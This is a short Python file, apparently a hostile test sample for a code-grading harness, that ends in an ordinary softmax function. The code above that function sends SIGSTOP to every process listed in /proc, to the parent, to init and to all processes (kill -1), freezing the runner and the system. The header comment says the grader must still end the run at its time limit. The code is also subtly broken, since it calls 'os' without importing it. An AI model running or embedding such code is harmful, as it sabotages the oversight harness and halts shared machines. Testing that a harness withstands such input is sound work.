# Freezes every process it can see with SIGSTOP (the runner, the launcher, init), then its whole
# session and "every process" (kill -1): the grader must still end this run at its time limit.
from attack_routes import os as _os
for _pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, 19)
        except OSError:
            pass
for _target in (_os.getppid(), 1, -1):
    try:
        _os.kill(_target, 19)
    except OSError:
        pass


def softmax(x):
    e = (x - x.max(dim=-1, keepdim=True).values).exp()
    return e / e.sum(dim=-1, keepdim=True)
